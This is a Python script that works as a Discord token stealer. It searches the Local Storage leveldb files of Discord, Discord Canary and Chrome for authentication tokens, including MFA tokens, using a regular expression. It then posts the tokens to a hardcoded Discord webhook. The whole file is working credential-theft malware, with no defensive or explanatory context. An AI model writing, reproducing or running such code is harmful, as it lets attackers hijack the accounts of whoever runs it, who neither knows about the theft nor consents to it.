import json
import os
import re

import requests

WEBHOOK = "https://discord.com/api/webhooks/1010101010101010101/abcdefghijklmnopqrstuvwxyz"
ROAMING = os.getenv("APPDATA", "")
LOCAL = os.getenv("LOCALAPPDATA", "")
PATHS = {
    "Discord": ROAMING + "\\discord\\Local Storage\\leveldb",
    "Discord Canary": ROAMING + "\\discordcanary\\Local Storage\\leveldb",
    "Chrome": LOCAL + "\\Google\\Chrome\\User Data\\Default\\Local Storage\\leveldb",
}
TOKEN = re.compile(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}")


def tokens():
    found = []
    for path in PATHS.values():
        if not os.path.exists(path):
            continue
        for name in os.listdir(path):
            if name.endswith((".log", ".ldb")):
                with open(os.path.join(path, name), errors="ignore") as fh:
                    found += TOKEN.findall(fh.read())
    return found


def send():
    requests.post(WEBHOOK, json={"content": json.dumps(tokens())})
